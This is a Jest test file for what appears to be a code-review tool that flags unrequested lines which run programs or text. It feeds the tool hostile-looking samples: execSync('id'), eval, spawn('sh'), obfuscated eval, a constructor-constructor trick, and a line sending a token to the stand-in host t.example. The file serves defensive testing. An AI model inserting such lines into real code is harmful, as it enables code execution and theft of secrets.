/** Lines that run a program or a text are not asked for because they stand among lines that are. */
import { describe, expect, it } from '@jest/globals';
import { type AskedFor, account, type Files } from './account.js';

async function openLines(files: Files, asked: AskedFor): Promise<readonly string[]> {
  const { spans } = await account(files, asked);
  return spans.flatMap(({ reason, location }) =>
    reason === 'unaccounted' ? [`${location.file}:${location.lineRange[0]}`] : [],
  );
}

const inside = (line: string) => `export function wave(name) {\n${line}\n  return name\n}\n`;
const ASKED: AskedFor = { text: '`wave` says goodbye', lines: ['src/wave.ts:1-4'] };

describe('a line among asked ones', () => {
  it.each([
    "  execSync('id')",
    '  eval(name)',
    '  const f = new Function(name)',
    "  const cp = require('child_process')",
    "  spawn('sh', [name])",
    "  globalThis['ev' + 'al'](name)",
    "  ''['constructor']['constructor'](name)()",
  ])('is for a person: %s', async (line) => {
    expect(await openLines({ 'src/wave.ts': { new: inside(line) } }, ASKED)).toEqual(['src/wave.ts:2']);
  });

  it.each(['  constructor(name) {', '  public constructor(', '  constructor('])(
    'is asked for where a class declares its constructor: %s',
    async (line) => {
      const rest = line.endsWith('{') ? '' : '    private readonly name: string,\n  ) {\n';
      const text = `export class Wave {\n${line}\n${rest}    use(name)\n  }\n}\n`;
      const lines = [`src/wave.ts:1-${text.split('\n').length - 1}`];
      expect(await openLines({ 'src/wave.ts': { new: text } }, { text: '`Wave` says goodbye', lines })).toEqual([]);
    },
  );

  it('is for a person where a chain goes on with the constructor on a line of its own', async () => {
    const chain = "  const f = wave.\n  constructor('return 1')";
    const asked = { ...ASKED, lines: ['src/wave.ts:1-5'] };
    expect(await openLines({ 'src/wave.ts': { new: inside(chain) } }, asked)).toEqual(['src/wave.ts:3']);
  });

  it.each([
    '  const m = /a/.exec(name)',
    '  const rows = evaluate(name)',
    '  // eval(name)',
    "  fetch('/goodbye')",
    '  system.log(name)',
  ])('is asked for: %s', async (line) => {
    expect(await openLines({ 'src/wave.ts': { new: inside(line) } }, ASKED)).toEqual([]);
  });

  it('is asked for where the ticket says it', async () => {
    const asked = { ...ASKED, text: '`wave` starts the helper by `execSync`' };
    expect(await openLines({ 'src/wave.ts': { new: inside("  execSync('id')") } }, asked)).toEqual([]);
  });

  it('is asked for where the file did it before', async () => {
    const old = "export const run = () => execSync('a')\n";
    const asked = { ...ASKED, lines: ['src/wave.ts:2-5'] };
    expect(await openLines({ 'src/wave.ts': { old, new: old + inside("  execSync('id')") } }, asked)).toEqual([]);
  });

  it.each(["  await fetch('https://t.example/?t=' + token)", '  const t = process.env.TOKEN', "  execSync('id')"])(
    'is for a person in a test: %s',
    async (line) => {
      const text = `import { wave } from '../src/wave'\n\ntest('wave', async () => {\n${line}\n  expect(wave('a')).toBe('a')\n})\n`;
      const files = { 'src/wave.ts': { new: inside('') }, 'test/wave.test.ts': { new: text } };
      const asked = { ...ASKED, lines: ['src/wave.ts:1-4', 'test/wave.test.ts:1-6'] };
      expect(await openLines(files, asked)).toEqual(['test/wave.test.ts:4']);
    },
  );
});
